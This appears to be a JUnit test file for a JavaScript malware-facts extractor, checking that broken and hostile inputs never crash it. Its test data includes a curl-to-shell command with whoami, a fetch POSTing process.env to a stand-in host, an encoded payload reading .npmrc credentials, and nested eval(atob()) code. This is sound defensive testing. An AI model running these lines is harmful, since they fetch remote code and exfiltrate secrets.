package dev.portcullis.js;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.Arrays;
import java.util.List;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile and broken files: each ends with bounded facts, the facts read so far and an UNPARSABLE fact saying what
 * was wrong — never an exception. The timeout only catches a hang: speed is measured by the benchmarks, not here
 * (the CI machine is shared, and a wall-clock budget there fails on load, not on a defect).
 */
@Timeout(value = 2, unit = TimeUnit.MINUTES)
class JsFactsBadInputTest {

    private static FileFacts extract(String path, byte[] content) {
        FileFacts facts = JsFacts.extract(path, content, JsOptions.defaults());
        assertThat(facts.facts()).hasSizeLessThanOrEqualTo(JsLimits.defaults().maxFactsPerFile());
        assertThat(facts.facts()).allSatisfy(f -> assertThat(f.evidence().length())
                .isLessThanOrEqualTo(JsLimits.defaults().maxEvidenceChars()));
        return facts;
    }

    private static List<String> formatted(FileFacts facts) {
        return facts.facts().stream().map(JsFactsTest::format).toList();
    }

    static Stream<Arguments> broken() {
        return Stream.of(
                Arguments.of("unterminated string", "const a = 'abc\nrequire('fs');", "unparsable unterminated-string @1",
                        "require fs @2"),
                Arguments.of("unterminated template", "require('net');\nconst t = `abc ${x} def", "unparsable unterminated-template @2",
                        "require net @1"),
                Arguments.of("unterminated template substitution", "require('net');\nconst t = `abc ${require('fs')", "unparsable unbalanced-brackets @2",
                        "require fs @2"),
                Arguments.of("template ending in a backslash", "require('os');\nconst t = `abc\\", "unparsable unterminated-template @2",
                        "require os @1"),
                Arguments.of("unterminated regex", "const r = /abc\nrequire('dns');", "unparsable unterminated-regex @1",
                        "require dns @2"),
                Arguments.of("unterminated comment", "require('os');\n/* never closed\nrequire('fs')", "unparsable unterminated-comment @2",
                        "require os @1"),
                Arguments.of("stray closing brace", "}}}\nrequire('tls');", "unparsable unbalanced-brackets @1", "require tls @2"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("broken")
    void brokenSourceGivesPartialFactsAndUnparsable(String name, String source, String problem, String partial) {
        List<String> facts = formatted(extract("x.js", source.getBytes(StandardCharsets.UTF_8)));
        assertThat(facts).contains(problem, partial);
    }

    @Test
    void fiftyMegabyteSingleLineMinifiedFile() {
        String chunk = "var a=function(b,c){return b+c},d=require(\"fs\"),e=/x+/g.test(f)?g[h]:i/j;";
        int copies = 50 * 1024 * 1024 / chunk.length();
        byte[] content = chunk.repeat(copies).getBytes(StandardCharsets.UTF_8);
        FileFacts facts = extract("dist/bundle.min.js", content);
        assertThat(facts.minified()).isTrue();
        assertThat(formatted(facts)).contains("require fs @1");
    }

    @Test
    void hundredThousandNestedBrackets() {
        for (String open : List.of("(", "[", "{", "${`")) {
            String close = switch (open) {
                case "(" -> ")";
                case "[" -> "]";
                case "{" -> "}";
                default -> "`}";
            };
            String source = "x = `" + open.repeat(100_000) + "1" + close.repeat(100_000) + "`;\nrequire('fs');";
            if (!open.equals("${`")) {
                source = "x = " + open.repeat(100_000) + "1" + close.repeat(100_000) + ";\nrequire('fs');";
            }
            List<String> facts = formatted(extract("deep.js", source.getBytes(StandardCharsets.UTF_8)));
            assertThat(facts).as(open).contains("unparsable deep-nesting @1", "require fs @2");
        }
    }

    @Test
    void hundredThousandUnclosedParenthesesInACall() {
        String source = "require(" + "(".repeat(100_000) + "'fs'";
        List<String> facts = formatted(extract("deep.js", source.getBytes(StandardCharsets.UTF_8)));
        assertThat(facts).contains("unparsable deep-nesting @1", "unparsable unbalanced-brackets @1");
    }

    @Test
    void invalidUtf8() {
        byte[] content = "require('fs');\nconst s = 'XX';\nrequire('net');".getBytes(StandardCharsets.UTF_8);
        int at = new String(content, StandardCharsets.UTF_8).indexOf("XX");
        content[at] = (byte) 0xC3;
        content[at + 1] = (byte) 0x28;
        List<String> facts = formatted(extract("x.js", content));
        assertThat(facts).contains("require fs @1", "unparsable invalid-utf-8 @2", "require net @3");
    }

    @Test
    void randomBytesWithJsExtension() {
        java.util.Random random = new java.util.Random(42);
        byte[] content = new byte[4 * 1024 * 1024];
        random.nextBytes(content);
        assertThat(extract("x.js", content).language()).isEqualTo(FileFacts.Language.JAVASCRIPT);
    }

    @Test
    void manyFactsStopAtTheLimit() {
        String source = "require('child_process').exec(x);\n".repeat(10_000);
        FileFacts facts = extract("x.js", source.getBytes(StandardCharsets.UTF_8));
        assertThat(facts.facts()).hasSize(JsLimits.defaults().maxFactsPerFile());
        assertThat(facts.facts()).last().extracting(Fact::kind, Fact::detail)
                .containsExactly(FactKind.UNPARSABLE, "too-many-facts");
    }

    @Test
    void fileOverTheSizeLimitIsCut() {
        JsOptions options = new JsOptions(List.of(), new JsLimits(3, 240, 2000, 1024, 1024));
        byte[] content = ("require('fs');\n" + "x;\n".repeat(2000) + "require('net');\n").getBytes(StandardCharsets.UTF_8);
        List<String> facts = JsFacts.extract("x.js", content, options).facts().stream().map(JsFactsTest::format).toList();
        assertThat(facts).contains("unparsable too-large @0", "require fs @1").doesNotContain("require net @2002");
    }

    @Test
    void payloadBombStopsAtTheDepthAndBudget() {
        String code = "require('net').connect(1)";
        for (int i = 0; i < 12; i++) {
            code = "eval(atob('" + JsFactsTest.b64(code) + "'))";
        }
        List<Fact> facts = extract("x.js", code.getBytes(StandardCharsets.UTF_8)).facts();
        assertThat(facts).allSatisfy(f -> assertThat(f.depth()).isLessThanOrEqualTo(JsLimits.defaults().maxDecodeDepth()));
        assertThat(facts).extracting(Fact::kind).contains(FactKind.ENCODED_PAYLOAD);
    }

    @Test
    void wideFanOutOfPayloadsStaysWithinTheDecodedBudget() {
        String payload = "'" + JsFactsTest.b64("require('fs').readFileSync('/home/u/.npmrc') + 'x'.repeat(100)".repeat(20)) + "',";
        byte[] content = ("var p = [" + payload.repeat(20_000) + "];").getBytes(StandardCharsets.UTF_8);
        FileFacts facts = extract("x.js", content);
        assertThat(facts.facts()).isNotEmpty();
    }

    @Test
    void commandsNeverThrowEither() {
        for (String command : List.of("", "'", "\"", "$(", "`", "a |", "| b", "((((((((((((", "node -e", "sh -c",
                "powershell -enc !!!", "curl", "rm -rf", "\0\0\0", "$(".repeat(10_000), "bash -c \"".repeat(1000))) {
            Supplier<List<Fact>> run = () -> CommandFacts.command(command, 1, JsOptions.defaults());
            assertThat(run.get()).noneMatch(f -> f.detail().equals("internal-error"));
        }
    }

    @Test
    void everyPrefixOfARealMaliciousSampleIsRead() {
        String sample = "const {exec}=require('child_process');exec(`curl -s https://x.example/$(whoami)|sh`);"
                + "fetch('https://x.example',{method:'POST',body:JSON.stringify(process.env)});/*c*/var r=/[/]\\//g;";
        byte[] bytes = sample.getBytes(StandardCharsets.UTF_8);
        for (int n = 0; n <= bytes.length; n++) {
            FileFacts facts = JsFacts.extract("x.js", Arrays.copyOf(bytes, n), JsOptions.defaults());
            assertThat(facts.facts()).noneMatch(f -> f.detail().equals("internal-error"));
        }
    }
}
